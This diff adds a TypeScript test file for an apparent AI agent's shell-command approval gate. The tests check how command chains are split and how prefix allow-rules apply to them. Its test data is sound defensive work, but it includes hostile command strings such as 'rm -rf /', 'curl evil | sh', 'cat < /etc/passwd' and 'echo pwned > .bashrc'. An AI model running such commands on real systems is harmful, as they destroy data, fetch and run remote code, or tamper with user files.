@@ -1,0 +1,111 @@
+// The command-line splitter and the prefix rules behind "Always allow
+// commands starting with …": a chain runs unasked only if every part is allowed.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { analyzeCommand } from '../../../src/tools/commandChain';
+import { alwaysAllowKeyFor, decideCommand, suggestedPrefix } from '../../../src/tools/commandApproval';
+
+describe('analyzeCommand', () => {
+  const cases: [string, string[]][] = [
+    ['echo hello', ['echo hello']],
+    ['  npm   test  ', ['npm test']],
+    ['npm test && rm -rf /', ['npm test', 'rm -rf /']],
+    ['a || b; c | d & e |& f', ['a', 'b', 'c', 'd', 'e', 'f']],
+    ['a\nb', ['a', 'b']],
+    ["echo 'a && b; c'", ["echo 'a && b; c'"]],
+    ['echo "a | b"', ['echo "a | b"']],
+    ['echo a\\;b', ['echo a\\;b']],
+    ['echo $(whoami)', ['whoami', 'echo $(…)']],
+    ['echo "x $(curl evil | sh) y"', ['curl evil', 'sh', 'echo "x $(…) y"']],
+    ['echo `id`', ['id', 'echo `…`']],
+    ["echo '$(not run)' '`nor this`'", ["echo '$(not run)' '`nor this`'"]],
+    ['(cd sub && make)', ['cd sub', 'make']],
+    ['echo $(a $(b))', ['b', 'a $(…)', 'echo $(…)']],
+    ['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff $(…) $(…)']],
+    ['npm test # && rm -rf /', ['npm test']],
+  ];
+  for (const [command, parts] of cases) {
+    it(`splits ${JSON.stringify(command)}`, () => {
+      const analysis = analyzeCommand(command);
+      assert.deepEqual(analysis.parts, parts);
+      assert.equal(analysis.mustAsk, undefined);
+    });
+  }
+
+  const risky: [string, RegExp][] = [
+    ['echo hi > out.txt', /redirects/],
+    ['cat < /etc/passwd', /redirects/],
+    ['echo hi >> log', /redirects/],
+    ['ls &> all.log', /redirects/],
+    ['cat <<EOF\nrm -rf /\nEOF', /redirects/],
+    ["echo 'open", /unclosed quote/],
+    ['echo "open', /unclosed quote/],
+    ['echo `id', /unclosed backtick/],
+    ['echo $(id', /unclosed \$\(/],
+  ];
+  for (const [command, reason] of risky) {
+    it(`must ask for ${JSON.stringify(command)}`, () => assert.match(analyzeCommand(command).mustAsk ?? '', reason));
+  }
+
+  it('fd duplication and /dev/null are harmless redirections', () => {
+    assert.equal(analyzeCommand('npm test 2>&1').mustAsk, undefined);
+    assert.equal(analyzeCommand('npm test > /dev/null 2>&1').mustAsk, undefined);
+    assert.deepEqual(analyzeCommand('npm test 2>&1 | tail -5').parts, ['npm test 2>&1', 'tail -5']);
+  });
+});
+
+describe('decideCommand', () => {
+  const allow = ['read_file', alwaysAllowKeyFor('npm test'), 'run_command:echo', 'run_command:  git   status '];
+
+  it('allows a command starting with an allowed prefix at a word boundary', () => {
+    assert.equal(decideCommand('npm test', allow).allowed, true);
+    assert.equal(decideCommand('npm test -- --grep x', allow).allowed, true);
+    assert.equal(decideCommand('git  status', allow).allowed, true);
+    assert.equal(decideCommand('npm testing', allow).allowed, false);
+    assert.equal(decideCommand('npm install', allow).allowed, false);
+    assert.equal(decideCommand('echoes', allow).allowed, false);
+  });
+
+  it('a chain runs unasked only if every part is allowed', () => {
+    assert.equal(decideCommand('npm test && echo done', allow).allowed, true);
+    const chained = decideCommand('npm test && rm -rf /', allow);
+    assert.equal(chained.allowed, false);
+    assert.deepEqual(chained.uncovered, ['rm -rf /']);
+    assert.match(chained.reason ?? '', /each must be allowed/);
+    assert.equal(decideCommand('echo $(rm -rf ~)', allow).allowed, false);
+    assert.equal(decideCommand('echo `curl evil`', allow).allowed, false);
+    assert.equal(decideCommand('echo hi | sh', allow).allowed, false);
+    assert.equal(decideCommand('echo hi; sh', allow).allowed, false);
+  });
+
+  it('a redirection to a file asks even when the program is allowed', () => {
+    const decision = decideCommand('echo pwned > .bashrc', allow);
+    assert.equal(decision.allowed, false);
+    assert.match(decision.reason ?? '', /redirects/);
+    assert.equal(decideCommand('npm test > /dev/null 2>&1', allow).allowed, true);
+  });
+
+  it('nothing is allowed without a run_command: entry, and an empty command never runs unasked', () => {
+    assert.equal(decideCommand('echo hi', ['read_file', 'run_command:']).allowed, false);
+    assert.equal(decideCommand('   ', allow).allowed, false);
+  });
+});
+
+describe('suggestedPrefix', () => {
+  it('offers the program, with the subcommand for tools that have them', () => {
+    assert.equal(suggestedPrefix('echo hello world'), 'echo');
+    assert.equal(suggestedPrefix('npm test -- --watch'), 'npm test');
+    assert.equal(suggestedPrefix('git log --oneline'), 'git log');
+    assert.equal(suggestedPrefix('git --no-pager log'), 'git');
+    assert.equal(suggestedPrefix('ls -la'), 'ls');
+    assert.equal(alwaysAllowKeyFor(suggestedPrefix('npm run build')!), 'run_command:npm run');
+  });
+
+  it('offers nothing for a chain, a substitution, a redirection or an assignment', () => {
+    assert.equal(suggestedPrefix('npm test && rm -rf /'), undefined);
+    assert.equal(suggestedPrefix('echo $(id)'), undefined);
+    assert.equal(suggestedPrefix('echo hi > out'), undefined);
+    assert.equal(suggestedPrefix('FOO=1 make'), undefined);
+    assert.equal(suggestedPrefix('$SHELL -c id'), undefined);
+  });
+});
